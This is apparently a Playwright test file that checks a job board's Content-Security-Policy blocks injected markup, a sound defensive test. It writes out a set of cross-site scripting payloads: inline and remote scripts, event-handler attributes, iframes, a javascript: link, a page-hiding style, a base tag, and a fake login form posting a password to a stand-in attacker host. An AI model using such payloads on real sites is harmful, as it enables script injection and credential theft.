// The Content-Security-Policy is the second line of defence: markup injected wherever contributors' text lands on
// a built page, as if the sanitizing renderer and the JSON-LD escaping had both failed, still cannot run, load
// or restyle anything. The page comes from the hostile board; page.route injects the markup into its HTML and
// leaves the policy <meta> that Astro wrote untouched.

import { expect, test, type Page } from '@playwright/test';
import { HOSTILE_URL } from '../support/servers.ts';

const POSTING = '/jobs/evil-corp-script-title/';
const EVIL = 'https://evil-corp.example';

/** Markup a failed sanitizer would let through, each piece recording in window.__ran if it runs. */
const BODY_INJECTION = [
  `<script>window.__ran.push('inline script')</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src="/no-such-image.png" onerror="window.__ran.push('onerror handler')">`,
  `<svg onload="window.__ran.push('svg onload')"><circle r="5"></circle></svg>`,
  `<iframe srcdoc="<script>parent.__ran.push('iframe')</script>"></iframe>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<style>body { display: none !important; }</style>`,
  `<img src="${EVIL}/pixel.png" alt="">`,
  `<base href="${EVIL}/">`,
  `<a id="javascript-link" href="javascript:window.__ran.push('javascript: link')">a link</a>`,
  `<form id="steal" action="${EVIL}/steal" method="post"><input name="password"><button>Log in</button></form>`,
].join('\n');

/** The page's HTML with markup injected where the title, the body and the structured data land. */
function inject(html: string): string {
  const poisoned = html
    .replace('<h1 id="job-title">', `<h1 id="job-title"><script>window.__ran.push('title')</script>`)
    .replace('<div class="posting-body">', `<div class="posting-body">${BODY_INJECTION}`)
    // A value breaking out of the structured data's <script> element.
    .replace(
      /(<script type="application\/ld\+json">[^<]*<\/script>)/,
      `$1<script>window.__ran.push('structured data')</script>`,
    );
  for (const marker of ["push('title')", 'javascript-link', "push('structured data')"]) {
    if (!poisoned.includes(marker)) throw new Error(`the page changed: ${marker} could not be injected`);
  }
  return poisoned;
}

interface Watch {
  requests: string[];
  dialogs: string[];
}

/** Records every policy violation and every request to the attacker's host, which is never reached. */
async function watch(page: Page): Promise<Watch> {
  const seen: Watch = { requests: [], dialogs: [] };
  await page.addInitScript(() => {
    const w = window as unknown as { __ran: string[]; __violations: string[] };
    w.__ran = [];
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      w.__violations.push(event.effectiveDirective);
    });
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.route(`${EVIL}/**`, async (route) => {
    seen.requests.push(route.request().url());
    await route.abort();
  });
  return seen;
}

async function state(page: Page): Promise<{ ran: string[]; violations: string[] }> {
  return page.evaluate(() => {
    const w = window as unknown as { __ran: string[]; __violations: string[] };
    return { ran: w.__ran, violations: w.__violations };
  });
}

test('the unchanged posting page breaks none of its own policy', async ({ page }) => {
  await watch(page);
  await page.goto(HOSTILE_URL + POSTING);
  await page.waitForLoadState('load');
  expect((await state(page)).violations).toEqual([]);
});

test('injected scripts, handlers, frames, styles, images, base and forms are blocked by the policy alone', async ({
  page,
}) => {
  const seen = await watch(page);
  let served = '';
  await page.route(HOSTILE_URL + POSTING, async (route) => {
    const response = await route.fetch();
    served = inject(await response.text());
    await route.fulfill({ response, body: served });
  });
  await page.goto(HOSTILE_URL + POSTING);
  await page.waitForLoadState('load');

  // The policy Astro wrote is still there, and comes before everything that was injected.
  const policy = served.indexOf('<meta http-equiv="content-security-policy"');
  expect(policy).toBeGreaterThan(-1);
  expect(policy).toBeLessThan(served.indexOf("push('title')"));
  expect(policy).toBeLessThan(served.indexOf("push('structured data')"));

  await page.locator('#javascript-link').click();
  // Submitted from the test, not clicked: a click would wait for a navigation the policy never lets start.
  await page.locator('#steal').evaluate((form: HTMLFormElement) => form.requestSubmit());
  await expect
    .poll(async () => (await state(page)).violations)
    .toEqual(
      expect.arrayContaining([
        'script-src-elem',
        'script-src-attr',
        'style-src-elem',
        'img-src',
        'frame-src',
        'base-uri',
        'form-action',
      ]),
    );
  const { ran } = await state(page);
  expect(ran).toEqual([]);
  expect(seen.dialogs).toEqual([]);
  expect(seen.requests).toEqual([]);
  expect(page.url()).toBe(HOSTILE_URL + POSTING);
  expect(await page.evaluate(() => document.baseURI)).toBe(HOSTILE_URL + POSTING);
  // The injected style did not hide the page (read directly: locators wait on the blocked form submission).
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).toBe('block');
});

test('words longer than the screen is wide wrap instead of widening the page', async ({ page }) => {
  await page.setViewportSize({ width: 320, height: 640 });
  await page.goto(`${HOSTILE_URL}/jobs/evil-corp-long-words/`);
  const { scrollWidth, clientWidth } = await page.evaluate(() => ({
    scrollWidth: document.documentElement.scrollWidth,
    clientWidth: document.documentElement.clientWidth,
  }));
  expect(scrollWidth).toBeLessThanOrEqual(clientWidth);
  await expect(page.getByRole('heading', { level: 1 })).toContainText('Donaudampfschifffahrts');
});
